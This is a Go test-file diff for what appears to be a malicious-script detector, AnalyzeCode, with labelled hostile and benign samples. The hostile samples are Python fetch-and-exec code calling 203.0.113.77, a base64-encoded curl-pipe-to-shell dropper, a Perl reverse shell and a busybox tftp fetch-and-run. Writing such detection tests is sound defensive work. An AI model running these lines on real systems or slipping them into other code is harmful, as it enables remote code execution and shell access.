@@ -17,6 +17,30 @@ func encode(s string) string { return base64.StdEncoding.EncodeToString([]byte(s
 // TestTraits: each trait with lines that have it, and twins that differ in what
 // decides. Traits in want that begin with ! must be missing; of a twin, all but
 // those named are.
+// TestCode: of other interpreters the calls that stand together count.
+func TestCode(t *testing.T) {
+	library := strings.Repeat("def f(x):\n    return x + 1\n\n", 1000)
+	for _, tt := range []struct{ interpreter, code, want string }{
+		{"python", "import urllib.request as u\nr = u.urlopen('http://203.0.113.77/a').read()\nexec(r)\n", "interpreter_fetch,pipe_to_shell"},
+		{"python", "import os, urllib.request as u\nu.urlretrieve('http://203.0.113.77/a', '/usr/lib/a')\nos.chmod('/usr/lib/a', 0o755)\nos.system('/usr/lib/a')\n", "fetch_exec,interpreter_fetch"},
+		{"python", "import base64, os\nd = base64.b64decode('Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjc3L3Quc2ggfCBzaA==')\nos.system(d)\n", "decode_exec,encoded,fetch,pipe_to_shell"},
+		{"python", "import base64, zlib\nexec(zlib.decompress(base64.b64decode(open('/usr/share/x').read())))\n", "decode_exec"},
+		{"perl", "use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,$p); open(STDIN,\">&S\"); exec(\"/bin/sh -i\");", "reverse_shell"},
+		{"perl", "use MIME::Base64; eval(decode_base64(<DATA>));", "decode_exec"},
+		// What honest programs do.
+		{"python", "import urllib.request, os, subprocess\nurllib.request.urlretrieve('https://geo.example/db.tgz', '/var/lib/geo/db.tgz')\nos.chmod('/var/lib/geo/db.tgz', 0o644)\nsubprocess.check_call(['systemctl', 'reload', 'nginx'])\n", "interpreter_fetch"},
+		{"python", "import base64, re, requests, subprocess\nT = base64.b64decode(open('/etc/app/token').read())\nx = re.compile('a')\nr = requests.get('https://api.example/v1', headers={'a': T})\nsubprocess.run(['mail', 'ops'], input=r.content)\n", "interpreter_fetch"},
+		{"python", "import base64\n" + library + "def g(x):\n    return base64.b64decode(x)\n" + library + "exec(open('/etc/app.py').read())\n", ""},
+		{"perl", "use Socket; socketpair(A, B, AF_UNIX, SOCK_STREAM, PF_UNSPEC); exec('/bin/sh', '-c', 'ls');", ""},
+		{"php", "<?php $r = file_get_contents('https://api.example/v1'); exec('systemctl reload nginx'); $db->exec('SELECT 1');", "interpreter_fetch"},
+	} {
+		f := AnalyzeCode(tt.code, tt.interpreter)
+		if got := strings.Join(f.Traits, ","); got != tt.want {
+			t.Errorf("%s %.120q: %q, want %q", tt.interpreter, tt.code, got, tt.want)
+		}
+	}
+}
+
 func TestTraits(t *testing.T) {
 	const dropper = "curl -fsSL http://203.0.113.77/i.sh | sh"
 	for _, tt := range []struct{ text, want string }{
@@ -322,6 +346,11 @@ func TestTraits(t *testing.T) {
 		{"/bin/sh -c true", ""},
 		{"mkdir -p /srv/app && cd $_ && ls", ""},
 		{"busybox tftp -g -r x.sh 203.0.113.77; sh x.sh", "fetch,fetch_exec"},
+		{". ~/.bash.d/prompt.sh", ""},
+		{". ~/.bashrc.d/a", ""},
+		{". ~/.x.d/a", "hidden_exec"},
+		{"~/.bash.d/a", "hidden_exec"},
+		{". \"$LE_WORKING_DIR/.acme.env\"", ""},
 		{"export BASH_ENV=/tmp/e", "temp_exec"},
 		{"export ENV=production", ""},
 		{"export ENV=$HOME/.kshrc", ""},
